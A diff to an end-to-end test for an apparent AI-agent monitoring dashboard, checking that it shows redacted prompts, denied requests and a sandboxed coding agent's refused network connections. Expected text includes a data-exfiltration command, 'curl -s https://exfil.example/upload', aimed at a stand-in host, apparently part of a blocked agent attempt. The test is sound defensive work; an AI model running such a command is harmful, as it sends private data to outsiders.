@@ -5,7 +5,7 @@ import { afterAll, beforeAll, describe, expect, test } from "vitest";
 import { Source } from "../../gateway/dashboard/src/api/gen/aispm/v1/event_pb";
 import { accessibilityFaults, picture } from "./support/browser";
 import { Producer } from "./support/producer";
-import { AGENT, billingRun, MASKED_KEY, MECHANISMS, OTHER_AGENT, sensorHealth, sha256, shadowUse, summaryRun, uuid7 } from "./support/scenario";
+import { AGENT, billingRun, MASKED_KEY, MECHANISMS, OTHER_AGENT, sensorHealth, sha256, shadowUse, summaryRun, uuid7, WORKSPACE } from "./support/scenario";
 import { useVisits } from "./support/visit";
 
 const visits = useVisits();
@@ -198,12 +198,15 @@ describe("with two runs and an unsanctioned program", () => {
     const text = await story.innerText();
     for (const words of ["How much does customer 4711 owe us", MASKED_KEY, "Decision: Redacted", "Decision: Denied", "Reply: HTTP 403",
       "Prompt text is not stored by policy. SHA-256", "curl -s https://exfil.example/upload", "Refused connection to 203.0.113.9:443 (tcp), 3 times",
-      "Refused name lookup of exfil.example", "asking about customer 4711", "Sandbox ended: exit code 1"]) {
+      "Refused name lookup of exfil.example", "asking about customer 4711", "Sandbox ended: exit code 1",
+      "only the gateway can be reached", "limit reached: disk"]) {
       expect.soft(text).toContain(words);
     }
     const connections = page.getByRole("region", { name: "Connections it tried" });
     expect(await connections.innerText()).toMatch(/exfil\.example[\s\S]*refused/);
     expect(await page.getByRole("region", { name: "Processes it started" }).locator("li").count()).toBe(3);
+    const run = await page.getByRole("region", { name: "This run" }).innerText();
+    for (const words of ["coding-agent", WORKSPACE]) expect.soft(run).toContain(words);  // SBX-033
     expect(await page.getByRole("region", { name: "Isolation in force" }).innerText()).toContain(MECHANISMS[4]);
     await page.getByText("Prompts and decisions").click();
     expect(await story.locator("[data-step=prompt]").count()).toBe(0);
